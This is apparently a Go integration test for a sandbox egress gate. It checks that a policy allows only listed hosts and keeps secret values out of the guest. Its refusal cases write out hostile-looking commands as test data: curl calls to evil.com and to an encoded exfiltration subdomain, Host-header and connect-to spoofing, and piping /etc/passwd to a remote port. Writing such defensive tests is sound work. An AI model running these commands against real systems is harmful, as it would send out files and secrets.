package drivertest

import (
	"bufio"
	"context"
	_ "embed"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/berth-run/berth/egress"
	"github.com/berth-run/berth/guest"
	"github.com/berth-run/berth/sandbox"
)

// outside is the network that a sandbox may try to reach: hosts that the test serves, at
// addresses that look public.
type outside struct {
	gate   *egress.Gate
	trust  []byte
	secret egress.Secret

	mu      sync.Mutex
	flows   []egress.Flow
	asked   map[string]bool // looked up names
	dialled []netip.Addr
}

const (
	outsideAddr = "93.184.216.34"
	deadAddr    = "93.184.216.35"
	secretValue = "the-real-value-5f0c1d"
	// secretPattern matches it, but not the pattern itself in a stored command.
	secretPattern = "the-real-valu[e]-5f0c1d"
)

func newOutside(t *testing.T) *outside {
	t.Helper()
	echo := func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "host=%s key=%s right=%v\n", r.Host, r.Header.Get("X-Key"), r.Header.Get("X-Key") == secretValue)
	}
	plain, secure := httptest.NewServer(http.HandlerFunc(echo)), httptest.NewTLSServer(http.HandlerFunc(echo))
	t.Cleanup(plain.Close)
	t.Cleanup(secure.Close)
	ports := map[int]string{80: plain.Listener.Addr().String(), 443: secure.Listener.Addr().String(), 5432: greeter(t)}
	return newOutsideOf(t, secure, ports, "example.com", "api.example.com", "db.example.com:5432", "inside.example.com",
		"dead.example.com", "dead.example.com:5433")
}

// newOutsideOf returns an outside that allows rules, and whose ports are served at addresses of
// this machine; secure is the TLS one.
func newOutsideOf(t testing.TB, secure *httptest.Server, ports map[int]string, allowed ...string) *outside {
	t.Helper()
	o := &outside{asked: map[string]bool{},
		secret: egress.Secret{Domain: "api.example.com", Name: "API_KEY", Value: secretValue,
			Placeholder: egress.NewPlaceholder("API_KEY")}}
	var rules []egress.Rule
	for _, s := range allowed {
		r, err := egress.ParseRule(s)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
	}
	ca, err := egress.NewAuthority("test")
	if err != nil {
		t.Fatal(err)
	}
	o.trust = append(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: secure.Certificate().Raw}), ca.PEM()...)
	o.gate = &egress.Gate{Policy: &egress.Policy{Rules: rules}, Secrets: []egress.Secret{o.secret}, CA: ca,
		Roots: secure.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs,
		Record: func(f egress.Flow) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.flows = append(o.flows, f)
		},
		Lookup: func(_ context.Context, name string) ([]netip.Addr, error) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.asked[name] = true
			if name == "inside.example.com" { // a name whose DNS entry is this machine
				return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("10.0.0.1")}, nil
			}
			if name == "dead.example.com" {
				return []netip.Addr{netip.MustParseAddr(deadAddr)}, nil
			}
			return []netip.Addr{netip.MustParseAddr(outsideAddr)}, nil
		},
		Dial: func(ctx context.Context, network string, a netip.AddrPort) (net.Conn, error) {
			if a.Addr().String() == deadAddr {
				return nil, syscall.ECONNREFUSED
			}
			if a.Addr().String() != outsideAddr {
				return nil, errors.New("an inside address was dialed")
			}
			return new(net.Dialer).DialContext(ctx, "tcp", ports[int(a.Port())])
		}}
	return o
}

// greeter sends first, as databases do.
func greeter(t *testing.T) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				io.WriteString(conn, "ready\n")
				line, _ := bufio.NewReader(conn).ReadString('\n')
				io.WriteString(conn, "echo "+line)
			}()
		}
	}()
	return l.Addr().String()
}

// connect connects the sandbox to the network, and waits until it is connected.
func (o *outside) connect(t testing.TB, b *Box) {
	t.Helper()
	if err := o.tryConnect(t, b); err != nil {
		t.Fatalf("connect to the network: %v", err)
	}
}

// tryConnect is connect, and returns the result of the first attempt.
func (o *outside) tryConnect(t testing.TB, b *Box) error {
	t.Helper()
	connected := make(chan error, 64)
	go b.Client.Outward(t.Context(), o.gate, o.network,
		func(err error) {
			select {
			case connected <- err:
			default:
			}
		})
	select {
	case err := <-connected:
		return err
	case <-time.After(30 * time.Second):
		return errors.New("the guest does not accept the network")
	}
}

// network returns the settings of the guest for this outside.
func (o *outside) network() guest.Network {
	n := guest.Network{Authorities: o.trust, Environment: map[string]string{o.secret.Name: o.secret.Placeholder}}
	if o.gate.Policy.Addresses() {
		n.Addresses = guest.Needed
	}
	return n
}

// refusal waits for a refused flow to a host, and returns the reason.
func (o *outside) refusal(t *testing.T, host string) string {
	t.Helper()
	for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
		o.mu.Lock()
		for _, f := range o.flows {
			if f.Target.Host == host && !f.Allowed {
				o.mu.Unlock()
				return f.Reason
			}
		}
		o.mu.Unlock()
	}
	t.Errorf("no refusal of %s was recorded", host)
	return ""
}

//go:embed out.py
var outScript string

// networks tests the connections that policies allow and refuse.
type networks struct{ *suite }

func (s networks) all(t *testing.T) {
	s.run(t, "Egress", s.egress)
	s.run(t, "Addresses", s.addresses)
	s.run(t, "QUIC", s.quic)
}

// egress tries all connections of a sandbox that may reach a few names.
func (s networks) egress(t *testing.T) {
	if s.features.Network {
		t.Skip("skipped: sandboxes of this driver have a network of their own")
	}
	o := newOutside(t)
	d := s.open(t)
	b := Start(t, d, sandbox.Spec{ID: "outward", Template: s.Template})
	o.connect(t, b)
	t.Run("Allowed", func(t *testing.T) { o.allowed(t, b) })
	t.Run("Refused", func(t *testing.T) { o.refused(t, b, s.users()) })
	t.Run("Uploads", func(t *testing.T) { o.uploads(t, b) })
	t.Run("Secrets", func(t *testing.T) { o.secrets(t, b, s.asRoot) })
	t.Run("Flood", func(t *testing.T) { o.flood(t, b) })
	t.Run("AnotherServer", func(t *testing.T) {
		b.Client.Close()
		again := Attach(t, d, "outward")
		if r := again.Sh("curl -sS -m 5 http://example.com/"); r.Code == 0 {
			t.Errorf("without a server: got %+v", r)
		}
		o.connect(t, again)
		o.allowed(t, again)
	})
}

func (o *outside) allowed(t *testing.T, b *Box) {
	for script, want := range map[string]string{
		"curl -sS http://example.com/":                                             "host=example.com key= right=false",
		"curl -sS https://example.com/":                                            "host=example.com key= right=false",
		"python3 -c 'import socket; print(socket.gethostbyname(\"EXAMPLE.com\"))'": "127.8.",
		`exec 3<>/dev/tcp/db.example.com/5432
		read -u 3 a; echo hi >&3; read -u 3 b; echo $a $b`: "ready echo hi",
	} {
		if r := b.Sh(script); r.Code != 0 || !strings.HasPrefix(r.Stdout, want) {
			t.Errorf("%s: got %+v, want %q", script, r, want)
		}
	}
}

func (o *outside) refused(t *testing.T, b *Box, users []string) {
	for script, host := range map[string]string{
		"curl -sS -m 20 https://evil.com/":                                              "evil.com",
		"curl -sS -m 20 http://c2VjcmV0.data.evil.com/":                                 "c2vjcmv0.data.evil.com",
		"getent hosts sub.example.com":                                                  "sub.example.com",
		"curl -sS -m 20 -k --connect-to evil.com:443:example.com:443 https://evil.com/": "example.com",
		"curl -sS -m 20 -f -H 'Host: evil.com' http://example.com/":                     "example.com",
		"curl -sS -m 20 -f http://inside.example.com/":                                  "inside.example.com",
		"curl -sS -m 20 -f telnet://example.com:443 </etc/passwd":                       "example.com",
	} {
		for _, who := range users {
			if r := b.Sh(who + script); r.Code == 0 && strings.Contains(r.Stdout, "host=") {
				t.Errorf("%s%s: got %+v", who, script, r)
			}
		}
		o.refusal(t, host)
	}
	for name := range o.asked {
		if strings.Contains(name, "evil") || name == "sub.example.com" {
			t.Errorf("the name %s was looked up", name)
		}
	}
	if err := b.Client.WriteFile(t.Context(), "/mnt/data", "out.py", "", strings.NewReader(outScript)); err != nil {
		t.Fatal(err)
	}
	for _, who := range users {
		if r := b.Sh(who + "python3 out.py " + outsideAddr); r.Stdout != "done\n" {
			t.Errorf("%sout.py: got %+v, want only done", who, r)
		}
	}
}

//go:embed upload.py
var uploadScript string

// uploads tests clients that send without reading: they notice immediately that they are refused.
func (o *outside) uploads(t *testing.T, b *Box) {
	if err := b.Client.WriteFile(t.Context(), "/mnt/data", "upload.py", "",
		strings.NewReader(uploadScript)); err != nil {
		t.Fatal(err)
	}
	if r := b.ShTimeout("python3 upload.py", 3*time.Minute); r.Stdout != "done\n" {
		t.Errorf("got %+v, want only done", r)
	}
}

func (o *outside) secrets(t *testing.T, b *Box, asRoot func(string) string) {
	if got := b.Must("echo $API_KEY"); got != o.secret.Placeholder {
		t.Errorf("the variable holds %q", got)
	}
	if got := b.Must(
		`curl -sS -H "X-Key: $API_KEY" https://api.example.com/`); got != "host=api.example.com key="+o.secret.Placeholder+" right=true" {
		t.Errorf("toward its host: got %q", got)
	}
	if got := b.Must(`curl -sS -H "X-Key: $API_KEY" https://example.com/`); !strings.HasSuffix(got, "right=false") {
		t.Errorf("toward another host: got %q", got)
	}
	if got := b.Must(asRoot("sudo grep -rl '" + secretPattern +
		"' /proc/*/environ /etc /mnt /run /tmp 2>/dev/null | wc -l")); got != "0" {
		t.Errorf("the value is in %s files of the sandbox", got)
	}
}

// flood opens more connections than a sandbox may have. The guest continues, and so does the
// network when they are closed.
func (o *outside) flood(t *testing.T, b *Box) {
	r := b.ShTimeout(`python3 - <<'EOF'
import socket
open_ = []
for i in range(10000):
    try:
        open_.append(socket.create_connection(("example.com", 443), 5))
    except OSError:
        break
print("stopped")
EOF`, 2*time.Minute)
	if !strings.HasSuffix(r.Stdout, "stopped\n") {
		t.Errorf("got %+v", r)
	}
	b.Answers()
	for end := time.Now().Add(time.Minute); ; time.Sleep(100 * time.Millisecond) {
		r := b.Sh("curl -sS -m 5 http://example.com/")
		if strings.HasPrefix(r.Stdout, "host=") {
			return
		}
		if time.Now().After(end) {
			t.Fatalf("after the flood: got %+v", r)
		}
	}
}
